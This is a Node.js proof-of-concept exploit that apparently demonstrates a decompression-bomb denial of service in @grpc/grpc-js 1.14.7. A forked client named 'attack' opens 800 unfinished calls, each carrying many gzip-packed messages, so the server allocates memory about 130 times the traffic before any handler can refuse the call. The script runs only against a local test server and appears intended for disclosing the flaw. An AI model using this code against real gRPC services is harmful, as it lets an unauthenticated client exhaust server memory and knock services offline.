/**
 * @grpc/grpc-js 1.14.7: a server unpacks each message of a call before a handler or an interceptor can refuse the call.
 * An unpacked message may be as large as `grpc.max_receive_message_length`, and all messages of a DATA frame are
 * unpacked at the same time, each with a zlib stream of its own: a client without credentials has the server allocate
 * some 130 times what it sends.
 *
 *   npm install @grpc/grpc-js@1.14.7 && node grpc-js-unpacks-first.mjs
 *
 * The server below answers UNAUTHENTICATED in a handler, and counts how often it is asked: never, since no request ends.
 */
import { fork } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { connect } from 'node:http2';
import { gzipSync } from 'node:zlib';
import { Server, ServerCredentials, status } from '@grpc/grpc-js';

const LIMIT_BYTES = 64 * 1024;
const CONNECTIONS = 20;
const CALLS_PER_CONNECTION = 40;

if (process.argv[2] === 'client') await attack(Number(process.argv[3]));
else serve();

function serve() {
  let handled = 0;
  const asIs = (bytes) => bytes;
  const server = new Server({ 'grpc.max_receive_message_length': LIMIT_BYTES });
  const method = { path: '/a.B/C', requestStream: false, responseStream: false };
  const codec = {
    requestSerialize: asIs,
    requestDeserialize: asIs,
    responseSerialize: asIs,
    responseDeserialize: asIs,
  };
  server.addService(
    { C: { ...method, ...codec } },
    {
      C: (_call, callback) => {
        handled += 1;
        callback({ code: status.UNAUTHENTICATED, details: 'Who are you?' });
      },
    },
  );
  server.bindAsync('127.0.0.1:0', ServerCredentials.createInsecure(), (error, port) => {
    if (error) throw error;
    const before = megabytes();
    let peak = before;
    const sampling = setInterval(() => {
      peak = Math.max(peak, megabytes());
    }, 20);
    const client = fork(process.argv[1], ['client', String(port)]);
    client.on('message', (sentBytes) => {
      clearInterval(sampling);
      console.log(`sent ${(sentBytes / 1e6).toFixed(1)} MB; memory ${before} MB before, ${peak} MB at most`);
      console.log(`the handler was asked ${handled} times`);
      client.kill();
      server.forceShutdown();
    });
  });
}

/** Opens calls, sends packed messages in each, and ends none. */
async function attack(port) {
  const packed = gzipSync(Buffer.alloc(LIMIT_BYTES - 1_000));
  const message = Buffer.concat([Buffer.from([1, 0, 0, 0, packed.length]), packed]);
  const frame = Buffer.concat(Array(Math.floor(16_000 / message.length)).fill(message));
  const headers = {
    ':method': 'POST',
    ':path': '/a.B/C',
    'content-type': 'application/grpc',
    te: 'trailers',
  };
  let sentBytes = 0;
  for (let n = 0; n < CONNECTIONS; n++) {
    const session = connect(`http://127.0.0.1:${port}`);
    session.on('error', () => {});
    for (let call = 0; call < CALLS_PER_CONNECTION; call++) {
      const stream = session.request({ ...headers, 'grpc-encoding': 'gzip' });
      stream.on('error', () => {});
      stream.resume();
      stream.write(frame);
      sentBytes += frame.length;
    }
  }
  setTimeout(() => process.send(sentBytes), 8_000);
}

/** The memory of this process that no file backs. */
function megabytes() {
  const [, kilobytes] = /RssAnon:\s+(\d+)/.exec(readFileSync('/proc/self/status', 'utf8')) ?? [];
  return Math.round(Number(kilobytes ?? process.memoryUsage().rss / 1024) / 1024);
}
